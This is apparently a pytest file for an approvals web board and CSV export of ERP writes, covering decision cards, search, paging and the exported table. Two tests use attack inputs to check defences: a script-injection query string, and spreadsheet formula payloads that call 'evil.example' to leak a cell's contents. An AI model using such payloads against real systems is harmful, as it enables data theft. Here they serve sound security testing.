"""What was decided, by whom and when: on the cards, in a search, and in a table for a spreadsheet."""

import csv
import html
import io
import re
from typing import Any

import anyio
import pytest

from fraction_mcp.approvals.searching import table_of
from fraction_mcp.approvals.view import Search
from fraction_mcp.operations.writes.approvers import Decider
from fraction_mcp.operations.writes.listing import COLUMNS
from fraction_mcp.operations.writes.states import State

from .conftest import Browser, Writer
from .test_pages import text

pytestmark = pytest.mark.anyio


def cards(page: str) -> list[str]:
    return re.findall(r'<article id="(\w+)"', page)


def names_of_buttons(card: str) -> list[str]:
    return [html.unescape(name) for name in re.findall(r'<button [^>]*aria-label="([^"]*)"', card)]


async def approved(writer: Writer, number: str, *, by: str = "a test") -> Any:
    write = await writer.part(number)
    return await writer.service.approve(write, digest=write.digest, by=Decider(by))


# ------------------------------------------------------------------------------------------------------------ the cards


async def test_a_card_says_who_decided_and_when(writer: Writer, browser: Browser) -> None:
    done = await approved(writer, "WHO-1", by="Anna <b>A</b> in a terminal")
    await browser.load()
    card = browser.card(done)
    assert "Approved by Anna <b>A</b> in a terminal" in text(card)
    assert "<b>A</b>" not in card
    assert re.search(r"Approved by Anna .*, just now \(\d\d \w+ \d{4}, \d\d:\d\d", text(card))


async def test_what_nobody_knows_stands_first_with_when_it_was_sent_and_why_nobody_knows(
    writer: Writer, browser: Browser
) -> None:
    waiting = await writer.part("FIRST-1")
    unsure = await writer.unsure("FIRST-2")
    page = await browser.load()
    assert cards(page) == [unsure.id, waiting.id]
    card = text(browser.card(unsure))
    assert re.search(r"Sent just now \(\d\d \w+ \d{4}, .*\) \. FractionERP failed with status 502 and could not", card)
    assert card.lower().count("it may have been written") == 1


async def test_two_writes_of_one_title_are_told_apart_in_their_headings_and_on_their_buttons(
    writer: Writer, browser: Browser
) -> None:
    customers = "SELECT id FROM customers WHERE name = 'Acme Corp'"
    (first,) = [row["id"] for row in writer.erps.state.store.all(customers, ())]
    with writer.erps.state.store.writing() as db:
        db.execute("UPDATE customers SET name = 'Acme Corp' WHERE id = ?", (first + 1,))
    one = await writer.asked("create_enquiry", customer=str(first))
    two = await writer.asked("create_enquiry", customer=str(first + 1))
    alone = await writer.part("APART-1")
    await browser.load()
    for write, customer in ((one, first), (two, first + 1)):
        card = text(browser.card(write))
        assert f"Create an enquiry for 'Acme Corp' Customer 'Acme Corp' (id {customer}) waits for you" in card
        named = f"Approve: Create an enquiry for 'Acme Corp', Customer 'Acme Corp' (id {customer})"
        assert names_of_buttons(browser.card(write))[0] == named
    assert names_of_buttons(browser.card(alone)) == [
        "Approve: Create the part 'APART-1'",
        "Decline: Create the part 'APART-1'",
    ]


async def test_two_writes_of_one_title_for_one_customer_are_told_apart_by_what_they_write(
    writer: Writer, browser: Browser
) -> None:
    writes = [await writer.asked("create_enquiry", customer="Acme Corp", customer_ref=ref) for ref in ("PO-1", "PO-2")]
    await browser.load()
    assert [names_of_buttons(browser.card(write))[0] for write in writes] == [
        "Approve: Create an enquiry for 'Acme Corp', Customer ref PO-1",
        "Approve: Create an enquiry for 'Acme Corp', Customer ref PO-2",
    ]


async def test_a_write_that_was_refused_since_its_ground_had_changed_shows_what_it_would_change_now(
    writer: Writer, browser: Browser
) -> None:
    breaks = [{"quantity": 500, "unit_price": "11.25"}]
    write = await writer.asked("set_price_list", part="WIDGET-001", customer="Acme Corp", price_breaks=breaks)
    await browser.load()
    with writer.erps.state.store.writing() as db:
        db.execute("UPDATE price_breaks SET price = '7.77' WHERE price = '8.50'")
    await browser.press(write, "approve")
    now, _, then = browser.card(write).partition("<details")
    assert "What it would change now" in now
    assert "7.77 each" in text(now)
    assert "ask the assistant for it again" in now
    assert "8.50 each" in text(then)
    assert text(now).count("othing was written") == 1


# ----------------------------------------------------------------------------------------------------------- searching


async def test_a_search_finds_what_has_all_its_words_wherever_they_stand(writer: Writer, browser: Browser) -> None:
    done = await approved(writer, "FIND-1", by="Anna in a terminal")
    waits = await writer.asked("create_enquiry", customer="Acme Corp", customer_ref="FIND-2", note="by phone")
    declined = await writer.part("OTHER-3")
    await writer.service.decline(declined, by="Bob", reason="Wrong material")
    for query, found in {
        "q=find": [waits.id, done.id],
        "q=FIND+anna": [done.id],
        "q=wrong+bob": [declined.id],
        "q=phone": [waits.id],
        f"q={done.id}": [done.id],
        "q=nothing+of+the+kind": [],
        "customer=acme": [waits.id],
        "tool=create_part": [declined.id, done.id],
        "state=declined": [declined.id],
        "state=awaiting_approval&q=find": [waits.id],
        "state=nonsense&q=": [waits.id, declined.id, done.id],
    }.items():
        assert cards(await browser.load(f"/?{query}")) == found, query
    assert "1 write waits for you" in text(await browser.load("/?q=nothing+of+the+kind")), (
        "what waits is counted in full"
    )
    assert "Nothing here matches" in browser.page


async def test_what_was_searched_for_is_text_on_the_page_and_a_decision_leads_back_to_it(
    writer: Writer, browser: Browser
) -> None:
    first, second = await writer.part("BACK-1"), await writer.part("BACK-2")
    page = await browser.load("/?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E")
    assert "<script>alert" not in page
    await browser.load("/?q=back&state=awaiting_approval")
    page = await browser.press(first, "decline")
    assert cards(page) == [first.id, second.id]
    assert 'name="q" value="back"' in page


async def test_the_whole_history_is_paged(writer: Writer, browser: Browser, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("fraction_mcp.approvals.board._PAGE", 2)
    monkeypatch.setattr("fraction_mcp.approvals.board._SHOWN_DECIDED", 1)
    writes = []
    for number in range(5):
        writes.append(await writer.part(f"PAST-{number}"))
        await writer.service.decline(writes[-1], by="a test")
    newest = [write.id for write in reversed(writes)]
    page, seen = await browser.load(), []
    assert cards(page) == newest[:1]
    while links := re.findall(r'<a href="\?([^"]*)">and \d+ more', page):
        page = await browser.load(f"/?{links[0].replace('&amp;', '&')}")
        seen += cards(page)
    assert seen == newest
    assert cards(await browser.load("/?of=decided&page=99")) == newest[:2]


async def test_the_one_that_was_decided_last_stands_first_however_long_it_had_waited(
    writer: Writer, browser: Browser, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("fraction_mcp.approvals.board._SHOWN_DECIDED", 1)
    old, young = await writer.part("AGE-1"), await writer.part("AGE-2")
    await writer.service.decline(young, by="a test")
    await writer.service.decline(old, by="a test")
    assert cards(await browser.load()) == [old.id]


async def test_a_search_that_does_not_look_through_everything_says_so(
    writer: Writer, browser: Browser, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("fraction_mcp.approvals.searching._LOOKED_THROUGH", 2)
    monkeypatch.setattr("fraction_mcp.approvals.searching.AT_ONCE", 2)
    monkeypatch.setattr("fraction_mcp.operations.writes.journal_history.AT_ONCE", 2)
    for number in range(5):
        await writer.service.decline(await writer.part(f"FAR-{number}"), by="a test")
    page = await browser.load("/?q=far")
    assert len(cards(page)) == 2
    assert "The last 2 were looked through" in page


# ----------------------------------------------------------------------------------------------------------- the table


async def table(browser: Browser, query: str = "") -> list[list[str]]:
    answer = await browser.http.get(f"/writes.csv{query}")
    assert answer.status_code == 200
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"].startswith('attachment; filename="writes-')
    assert answer.text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(answer.text.removeprefix("\ufeff"), newline="")))


async def test_the_table_has_everything_with_the_columns_of_the_command(writer: Writer, browser: Browser) -> None:
    done = await approved(writer, "TABLE-1", by="Anna")
    waits = await writer.part("TABLE-2")
    head, *rows = await table(browser)
    assert tuple(head) == COLUMNS
    told = [dict(zip(head, row, strict=True)) for row in rows]
    assert [one["ID"] for one in told] == [waits.id, done.id]
    assert (told[1]["STATE"], told[1]["DECIDED BY"], told[1]["REFERENCE"]) == ("done", "Anna", "TABLE-1")
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d[+-]\d\d:\d\d", told[1]["DECIDED"])
    assert [row[0] for row in (await table(browser, "?q=table-2"))[1:]] == [waits.id]
    assert [row[0] for row in (await table(browser, "?state=done"))[1:]] == [done.id]


@pytest.mark.matrix
@pytest.mark.parametrize("start", ["=", "+", "-", "@", " =", "\t="])
async def test_a_cell_that_a_spreadsheet_would_carry_out_is_made_text(
    writer: Writer, browser: Browser, start: str
) -> None:
    nasty = f'{start}HYPERLINK("http://evil.example/?"&A1)'
    write = await writer.part("CELL-1")
    await writer.service.decline(write, by=nasty, reason=nasty)
    _, row = await table(browser)
    assert row[COLUMNS.index("DECIDED BY")] == f"'{nasty}"
    assert row[COLUMNS.index("REASON")].startswith("'")


async def test_the_table_is_for_who_is_signed_in(browser: Browser) -> None:
    browser.http.cookies.clear()
    assert (await browser.http.get("/writes.csv")).status_code == 403


async def test_no_write_is_left_out_of_the_table_or_comes_twice_while_others_are_decided(
    writer: Writer, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("fraction_mcp.operations.writes.journal_history.AT_ONCE", 2)
    writes = [await writer.part(f"WHILE-{number}") for number in range(7)]
    lines, left = [], list(writes)
    async for piece in table_of(writer.service.journal, Search()):
        lines += piece.splitlines()
        if left:
            await writer.service.decline(left.pop(), by="somebody meanwhile")
            await anyio.lowlevel.checkpoint()
    assert [line.partition(",")[0] for line in lines[1:]] == [
        write.id for write in sorted(writes, key=lambda one: (-one.created_at, one.id))
    ]
    assert await writer.state(writes[-1]) is State.DECLINED
